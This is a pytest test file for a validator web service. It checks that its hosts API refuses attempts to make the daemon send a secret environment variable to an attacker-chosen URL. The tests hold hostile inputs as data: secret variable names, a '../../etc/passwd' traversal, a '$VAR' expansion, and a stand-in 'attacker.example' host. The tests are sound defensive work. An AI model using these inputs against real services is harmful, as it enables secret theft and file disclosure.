"""POST /api/hosts cannot name the variable a host's token comes from: the token_env
attack (an admin token making the daemon send VALIDATOR_SECRET, or any variable, to a URL
of its choosing) is refused, and the `credentials` key it may set names only
VALIDATOR_CRED_<KEY>_* variables (tests/test_credentials.py sends a probe with one)."""

from __future__ import annotations

import pytest

from validator.store import Store, upgrade
from validator.web.app import create_app
from validator.web.auth import create_token

from .conftest import LiveServer


@pytest.fixture(scope="module")
def server(tmp_path_factory, registry):
    url = Store.default_url(tmp_path_factory.mktemp("cred") / "v.db")
    upgrade(url)
    store = Store(url)
    admin, _ = create_token(store, "admin", "mallory")
    live = LiveServer(create_app(store, registry=registry))
    yield live, admin, store
    live.stop()
    store.close()


@pytest.mark.parametrize("body", [
    {"token_env": "VALIDATOR_SECRET"},
    {"token_env": "HOME"},
    {"credentials": "VALIDATOR_SECRET", "token_env": "VALIDATOR_SECRET"},
    {"credentials": "../../etc/passwd"},
    {"credentials": "$VALIDATOR_SECRET"},
    {"credentials": "x" * 65},
])
def test_token_env_attack_is_refused(server, body):
    live, admin, store = server
    with live.client(admin) as c:
        r = c.post("/api/hosts", json={"name": "evil", "url": "http://attacker.example:8000/v1",
                                       "model": "smollm2-135m", **body})
    assert r.status_code == 422, r.text
    assert store.get_host("evil") is None


def test_a_credentials_key_is_stored_as_a_key(server):
    live, admin, store = server
    with live.client(admin) as c:
        r = c.post("/api/hosts", json={"name": "host-7", "url": "http://10.0.0.7:8000/v1",
                                       "model": "smollm2-135m", "credentials": "network"})
    assert r.status_code == 201, r.text
    assert store.get_host("host-7")["token_env"] == "network"  # the column holds the key
